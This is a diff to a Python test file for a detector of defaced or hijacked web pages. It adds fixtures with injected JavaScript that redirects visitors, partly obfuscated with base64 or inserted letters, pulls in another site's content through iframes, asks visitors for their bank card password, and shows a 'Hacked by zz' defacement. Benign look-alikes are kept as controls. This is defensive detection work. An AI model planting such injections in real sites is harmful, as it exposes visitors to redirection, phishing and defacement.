@@ -94,6 +94,52 @@ SPELT_OUT = {
         "document.head.appendChild(m)"
     ),
 }
+BY_SEVERAL = {
+    "a function that is called": script(f"function go(){{location.href='{_TO}'}}go()"),
+    "a function that waits a while": script(f"function go(){{location.href='{_TO}'}}setTimeout(go,3000)"),
+    "a function that the page calls": script(
+        f"var go=function(){{location.href='{_TO}'}};window.addEventListener('load',go)"
+    ),
+    "a function of an object": script(f"var A={{go:function(){{location.href='{_TO}'}}}};A.go()"),
+    "a function that a function calls": script(
+        f"function a(){{location.href='{_TO}'}}function b(){{if(screen.width<800)a()}}b()"
+    ),
+    "a function that the body calls": script(f"function go(){{location.href='{_TO}'}}").replace(
+        "<body>", "<body onload=go()>"
+    ),
+    "a function that a picture calls": put(
+        f"<img src=x onerror=go()><script>function go(){{location.href='{_TO}'}}</script>"
+    ),
+    "an address in an element": put(
+        f"<i id=q data-u='{_TO}'></i><script>location.href=document.getElementById('q').dataset.u</script>"
+    ),
+    "an address in a field": put(
+        f"<input type=hidden id=q value='{_TO}'><script>var e=document.getElementById('q');location=e.value</script>"
+    ),
+    "an address in a link": put(f"<a id=u href='{_TO}'></a><script>location.href=$('#u').attr('href')</script>"),
+    "an address in code in an element": put(
+        "<i id=q title='aHR0cDovL3QuYmFkLmV4YW1wbGUv'></i>"
+        "<script>location.href=atob(document.getElementById('q').title)</script>"
+    ),
+    "an address with letters between": script(
+        "var s='hAtAtApAsA:A/A/Aa.bad.example/';location.href=s.split('A').join('')"
+    ),
+    "a form that is sent": put(f"<form id=f action='{_TO}'></form><script>document.forms.f.submit()</script>"),
+    "another page in the body": script(f"$('body').load('{_TO}')"),
+    "another page's text": script(f"fetch('{_TO}').then(r=>r.text()).then(t=>{{document.open();document.write(t)}})"),
+    "another page's data": script(f"$.getJSON('{_TO}?callback=?',function(d){{$('body').html(d.h)}})"),
+    "a frame beneath the body": script(
+        f"document.body.attachShadow({{mode:'open'}}).innerHTML='<iframe src=\"{_TO}\"></iframe>'"
+    ),
+    "a frame in its place": script(
+        f"var f=document.createElement('iframe');f.src='{_TO}';document.body.replaceChildren(f)"
+    ),
+    "a layer with a frame": put(
+        f"<dialog open style='position:fixed;inset:0'><iframe src='{_TO}' width=100% height=100%></iframe></dialog>"
+    ),
+    "a question for a card": script("prompt('您的登录已过期，请输入银行卡密码')"),
+    "a boast that is written": script("document.querySelector('h1').textContent='Hacked by zz'"),
+}
 PAINTED = {
     "instead of the page": sheet(
         "body>*{display:none!important}"
@@ -147,7 +193,7 @@ PAYEES = {
     "an agent who knows somebody": put("<div><p>内部渠道 公务员岗位包过</p><p>加QQ <span>33918277</span></p></div>"),
     "an agent for pensions": put("<div>养老金补缴代办 先缴后领<br>添加微信 yl8899x</div>"),
 }
-TOLD = {**TAKEN_OVER, **SPELT_OUT, **PAINTED, **TRACES, **PAYEES}
+TOLD = {**TAKEN_OVER, **SPELT_OUT, **BY_SEVERAL, **PAINTED, **TRACES, **PAYEES}
 
 _CONFIRM = "confirm('您访问的链接即将离开云山县人民政府网站，是否继续？')"
 HONEST = {
@@ -174,6 +220,16 @@ HONEST = {
         'if(_ref.indexOf("baidu")>0){new Image().src=_p+encodeURIComponent(_ref);}'
     ),
     "other names for what is known": script("var d=document,w=window,l='title';w.onload=function(){d[l]=d[l]+'_首页'}"),
+    "a function that leads home": script("function go(){location.href='/index.html'}setTimeout(go,3000)"),
+    "a choice that leads": put(
+        f"<select id=s onchange=jump()><option value='{_TO}'>宏达建材</option></select>"
+        "<script>function jump(){location.href=document.getElementById('s').value}</script>"
+    ),
+    "own text in the page": script("fetch('/d.json').then(r=>r.text()).then(t=>{document.body.dataset.n=t})"),
+    "a question for a query's password": script("var p=prompt('请输入查询密码')"),
+    "a layer that is not shown": put(
+        "<div style='position:fixed;inset:0;display:none'><iframe src='/m.html' width=100% height=100%></iframe></div>"
+    ),
     "drawn signs": sheet('.i::before{content:"\\e600"}'),
     "a motto at the foot": sheet("footer::before{content:'云山县人民政府 · 为人民服务'}html{filter:grayscale(100%)}"),
     "a telephone held across": sheet(
@@ -229,8 +285,22 @@ def test_an_honest_page_of_the_same_shape_is_not_accused(page: str) -> None:
     assert violations(page, shot(PAGE)) == []
 
 
-def test_what_asks_which_thing_was_pressed_is_a_link_of_its_own() -> None:
-    page = script(f"document.addEventListener('click',function(e){{if(e.target.id=='yq'){{window.open('{_TO}')}}}})")
+LED_BY_HAND = {
+    "a part of the page": script(
+        f"document.addEventListener('click',function(e){{if(e.target.id=='yq'){{window.open('{_TO}')}}}})"
+    ),
+    "a function that waits for a press": put(
+        f"<a onclick=share()>分享</a><script>function share(){{window.open('{_TO}')}}function init(){{}}init()</script>"
+    ).replace("<body>", "<body onload=init()>"),
+    "an own address in an element": put(
+        "<i id=q data-u='/new/'></i><script>location.href=document.getElementById('q').dataset.u</script>"
+    ),
+}
+"""What leads somewhere once it is pressed, or to the site itself: at first sight nothing is wrong with it."""
+
+
+@pytest.mark.parametrize("page", LED_BY_HAND.values(), ids=LED_BY_HAND)
+def test_what_is_meant_by_a_press_is_a_link(page: str) -> None:
     assert violations(page) == []
 
 
